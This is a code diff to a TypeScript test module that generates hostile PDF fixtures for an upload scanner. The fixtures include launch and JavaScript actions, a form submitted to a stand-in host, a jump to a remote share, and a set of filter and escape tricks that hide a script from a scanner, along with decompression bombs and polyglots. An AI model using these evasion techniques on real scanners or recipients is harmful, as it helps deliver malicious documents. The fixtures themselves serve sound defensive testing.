@@ -1,4 +1,5 @@
 import { deflateSync } from 'node:zlib'
+import type { DocumentMark } from '#shared/business-application/document-marks.ts'
 import { MAX_UPLOAD_BYTES } from '#shared/business-application/upload-rules.ts'
 import {
   buildPdf,
@@ -9,72 +10,22 @@ import {
   PAGE,
   packObjects,
   stream,
-  TEXT,
 } from './build-pdf.ts'
+import { HARMS } from './harms.ts'
+import { PLACEMENTS } from './placements.ts'
 
 export type Verdict = 'refused' | 'kept apart' | 'marked'
 export interface HostilePdf {
   name: string
   bytes: Buffer
   verdict: Verdict
+  /** What must be said of it, where that is one thing. */
+  mark?: DocumentMark
+  /** Under what heading it is listed. */
+  place: string
 }
 
-/** What makes a reader act without being asked; each is harmless here and does nothing. */
-const ACTIONS = {
-  'a script': '<< /S /JavaScript /JS (app.alert\\(1\\)) >>',
-  'a script in a rendition': '<< /S /Rendition /JS (x) /OP 0 >>',
-  'a program started': '<< /S /Launch /F (cmd.exe) >>',
-  'a program started on Windows': '<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>',
-  'a form sent away': '<< /S /SubmitForm /F (https://collect.example/) >>',
-  'data brought in': '<< /S /ImportData /F (C:\\\\data.fdf) >>',
-  'a jump into an attachment': '<< /S /GoToE /T << /R /C /N (inner.pdf) >> >>',
-  'a jump to another machine': '<< /S /GoToR /F (\\\\\\\\198.51.100.1\\\\share\\\\a.pdf) /D [0 /Fit] >>',
-  'a film with a script': '<< /Type /Annot /Subtype /RichMedia /RichMediaContent << >> >>',
-} as const
-const ATTACHMENT = '<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> /Names << /EmbeddedFiles 3 0 R >> >>'
-const FORM = '<< /AcroForm << /XFA [(template) 6 0 R] >> >>'
-const HARMS: [string, string][] = [
-  ...Object.entries(ACTIONS),
-  ['an attachment', ATTACHMENT],
-  ['a live form', FORM],
-]
-
-/** Where a harm can lie, and how its name can be written. */
-const PLACES: [string, (harm: string) => Buffer][] = [
-  [
-    'at opening',
-    (harm) =>
-      buildPdf({ objects: [`<< /Type /Catalog /Pages 2 0 R /OpenAction ${harm} >>`, ...onePage().slice(1)] }),
-  ],
-  [
-    'on a page',
-    (harm) =>
-      buildPdf({
-        objects: [...onePage().slice(0, 2), `<< /Type /Page /AA << /O ${harm} >> >>`, stream('', TEXT)],
-      }),
-  ],
-  ['in escapes', (harm) => buildPdf({ objects: [...onePage(), escapeNames(harm)] })],
-  ['in compressed objects', (harm) => buildPdf({ objects: [...onePage(), objectStream([harm])] })],
-  [
-    'in compressed objects without a type',
-    (harm) => buildPdf({ objects: [...onePage(), objectStream([harm], '/Filter /FlateDecode')] }),
-  ],
-  ['behind a table that lies', (harm) => buildPdf({ objects: [...onePage(), harm] }).subarray(0, -40)],
-  [
-    'after the first end',
-    (harm) => Buffer.concat([buildPdf({ objects: onePage() }), bytesOf(`5 0 obj ${harm} endobj\n%%EOF\n`)]),
-  ],
-]
-
-function escapeNames(text: string): string {
-  const hex = (letter: string) => `#${letter.charCodeAt(0).toString(16)}`
-  return text.replace(
-    /\/([A-Za-z]+)/g,
-    (_, name: string) => `/${[...name].map((letter, at) => (at % 2 ? hex(letter) : letter)).join('')}`,
-  )
-}
-
-const script = ACTIONS['a script']
+const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
 const { packed: packedScript, first } = packObjects([script])
 const OBJECTS = `/Type /ObjStm /N 1 /First ${first}`
 const flate = (text: string | Buffer) => deflateSync(text)
@@ -93,7 +44,6 @@ const DISGUISES: [string, Buffer][] = [
       stream(`${OBJECTS} /Filter [/FlateDecode /ASCIIHexDecode]`, flate(asHex(bytesOf(packedScript)))),
     ),
   ],
-  ['a short filter name', withObject(stream(`${OBJECTS} /Filter [/AHx /Fl]`, asHex(flate(packedScript))))],
   [
     'a filter in escapes',
     withObject(stream(`${OBJECTS} /Filter [/#41SCIIHexDecode /FlateDecode]`, asHex(flate(packedScript)))),
@@ -158,7 +108,6 @@ const DISGUISES: [string, Buffer][] = [
     'a damaged end',
     withObject(stream(`${OBJECTS} /Filter /FlateDecode`, flate(packedScript).subarray(0, -6))),
   ],
-  ['no compression at all', withObject(stream(OBJECTS, packedScript))],
   [
     'a return as line end',
     withObject(
@@ -180,6 +129,43 @@ const DISGUISES: [string, Buffer][] = [
     ),
   ],
 ]
+
+const hexFirst = asHex(flate(packedScript))
+// Inflated, these still begin like the numbers of objects.
+const hexLast = flate(asHex(bytesOf(packedScript)))
+const FILTERS: [string, string, Buffer][] = [
+  ['hexadecimal', '/Filter /ASCIIHexDecode', asHex(bytesOf(packedScript))],
+  ['hexadecimal by its short name', '/Filter [/AHx /Fl]', hexFirst],
+  ['hexadecimal inside', '/Filter [/Fl /ASCIIHexDecode]', hexLast],
+  ['base 85', '/Filter [/ASCII85Decode /FlateDecode]', hexFirst],
+  ['LZW', '/Filter /LZWDecode', hexFirst],
+  ['run lengths', '/Filter [/FlateDecode /RunLengthDecode]', hexLast],
+  ['a key of its own', '/Filter [/Crypt /FlateDecode]', hexLast],
+  ['a filter elsewhere', '/Filter 8 0 R', hexLast],
+  ['a second filter elsewhere', '/Filter [/FlateDecode 8 0 R]', hexLast],
+  ['a list of filters elsewhere', '/Filter [8 0 R]', hexFirst],
+  ['a short key', '/F [/Fl /AHx]', hexLast],
+  ['two filters, one after another', '/Filter /FlateDecode /Filter [/Fl /AHx]', hexLast],
+  ['a predictor elsewhere', '/Filter /FlateDecode /DecodeParms 8 0 R', hexLast],
+  ['a predictor by a short key', '/Filter /FlateDecode /DP 8 0 R', hexLast],
+]
+const SHAPES: [string, (filter: string) => string][] = [
+  ['of that type', (filter) => `${OBJECTS} ${filter}`],
+  ['of no type', (filter) => `/N 1 /First ${first} ${filter}`],
+  ['of a type elsewhere', (filter) => `/Type 8 0 R /N 9 0 R /First 10 0 R ${filter}`],
+  ['after a long entry', (filter) => `/N 1 /First ${first} ${filter} /X (${'a'.repeat(9_000)})`],
+  ['after an object in a comment', (filter) => `/N 1 /First ${first} ${filter} %1 0 obj >> 2 0 obj\n`],
+  ['after an object in a string', (filter) => `/N 1 /First ${first} ${filter} /X (>> endobj 1 0 obj <<)`],
+  ['after an end in a comment', (filter) => `/N 1 /First ${first} ${filter} %>> endobj\n`],
+  ['after a stream in a string', (filter) => `/N 1 /First ${first} /X (>> stream\n) ${filter}`],
+  ['in escapes', (filter) => `/#4e 1 /F#69rst ${first} ${filter.replaceAll('/F', '/#46')}`],
+]
+const FILTERED: [string, Buffer][] = SHAPES.flatMap(([shape, write]) =>
+  FILTERS.map(([name, filter, data]): [string, Buffer] => [
+    `objects ${shape} in ${name}`,
+    withObject(stream(write(filter), data)),
+  ]),
+)
 
 /** Each row of the text behind the mark of an Up predictor, taken from the row above. */
 function predict(text: string): Buffer {
@@ -218,18 +204,22 @@ function adler32(bytes: Buffer): number {
 const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1_048_576)
 const BOMBS: [string, Buffer][] = [
   [
+    'values behind more comment than is looked at',
+    withObject(`<< /S /Thread /F %${'x'.repeat(2_000)}\n(a.exe) >>`),
+  ],
+  [
+    'an address behind more blanks than are looked at',
+    withObject(`<< /S /URI /URI (${'\\\n'.repeat(600)}file:///a) >>`),
+  ],
+  [
     'a bomb of zeros',
-    withObject(stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', flate(zeros(80)))),
+    withObject(stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', flate(zeros(2)))),
   ],
   [
     'a bomb of objects',
     withObject(
-      stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', flate(Buffer.alloc(80 * 1_048_576, '1 0 '))),
+      stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', flate(Buffer.alloc(48 * 1_048_576, '1 0 '))),
     ),
-  ],
-  [
-    'a bomb without a type',
-    withObject(stream('/N 1 /First 4 /Filter /FlateDecode', flate(Buffer.alloc(80 * 1_048_576, '1 0 ')))),
   ],
   [
     'a hundred bombs',
@@ -316,11 +306,23 @@ const POLYGLOTS: [string, Buffer][] = (
     ['a Java class', '\xca\xfe\xba\xbe'],
     ['a rich text', '{\\rtf1 '],
     ['a shell script', '#!/bin/sh\n'],
+    ['a shortcut', 'L\0\0\0\x01\x14\x02\0'],
+    ['a cabinet', 'MSCF'],
+    ['an old office file', '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'],
+    ['a Mac program', '\xcf\xfa\xed\xfe'],
+    ['a packed file', '\x1f\x8b\x08'],
+    ['a printer program', '%!PS-Adobe-3.0\n'],
+    ['a mail', 'MIME-Version: 1.0\n'],
+    ['a tape archive', `${'a'.repeat(257)}ustar\0`],
     ['a web page', '<html><script>1</script><!-- '],
     ['a drawing with a script', '  <svg onload="x">'],
   ] as const
 ).map(([name, before]) => [`${name} that is a PDF too`, buildPdf({ objects: onePage(), before })])
 const ARCHIVES: [string, Buffer][] = [
+  [
+    'an archive with a long comment',
+    Buffer.concat([plain(), bytesOf(`PK\x05\x06${'\0'.repeat(18)}${' '.repeat(60_000)}%%EOF`)]),
+  ],
   ['an archive behind the end', Buffer.concat([plain(), bytesOf(`PK\x05\x06${'\0'.repeat(18)}`)])],
   [
     'an archive before the end',
@@ -356,21 +358,31 @@ const BROKEN: [string, Buffer][] = [
   ],
 ]
 
-const all = (list: [string, Buffer][], verdict: Verdict) =>
-  list.map(([name, bytes]): HostilePdf => ({ name, bytes, verdict }))
+const all = (list: [string, Buffer][], verdict: Verdict, place: string) =>
+  list.map(([name, bytes]): HostilePdf => ({ name, bytes, verdict, place }))
+
+/** Every harm in every place, but once: without strings in it a harm is the same however strings are written. */
+function placedHarms(): HostilePdf[] {
+  const files = new Map<string, HostilePdf>()
+  for (const [place, put] of Object.entries(PLACEMENTS)) {
+    for (const { name, mark, objects } of HARMS) {
+      const bytes = put(objects)
+      const file: HostilePdf = { name: `${name} ${place}`, bytes, verdict: 'kept apart', mark, place }
+      files.set(bytes.toString('latin1'), file)
+    }
+  }
+  return [...files.values()]
+}
 
 /** Files a stranger might send: none may reach staff as if nothing were the matter. */
 export const hostilePdfs = (): HostilePdf[] => [
-  ...PLACES.flatMap(([place, put]) =>
-    HARMS.map(
-      ([name, harm]): HostilePdf => ({ name: `${name} ${place}`, bytes: put(harm), verdict: 'kept apart' }),
-    ),
-  ),
-  ...all(DISGUISES, 'kept apart'),
-  ...all(BOMBS, 'kept apart'),
-  ...all(CYCLES, 'kept apart'),
-  ...all(POLYGLOTS, 'kept apart'),
-  ...all(ARCHIVES, 'kept apart'),
-  ...all(MISLABELLED, 'refused'),
-  ...all(BROKEN, 'marked'),
+  ...placedHarms(),
+  ...all(DISGUISES, 'kept apart', 'in disguise'),
+  ...all(FILTERED, 'kept apart', 'in filters'),
+  ...all(BOMBS, 'kept apart', 'that swells'),
+  ...all(CYCLES, 'kept apart', 'that leads back'),
+  ...all(POLYGLOTS, 'kept apart', 'of two kinds'),
+  ...all(ARCHIVES, 'kept apart', 'with an archive'),
+  ...all(MISLABELLED, 'refused', 'that is none'),
+  ...all(BROKEN, 'marked', 'that is broken'),
 ]
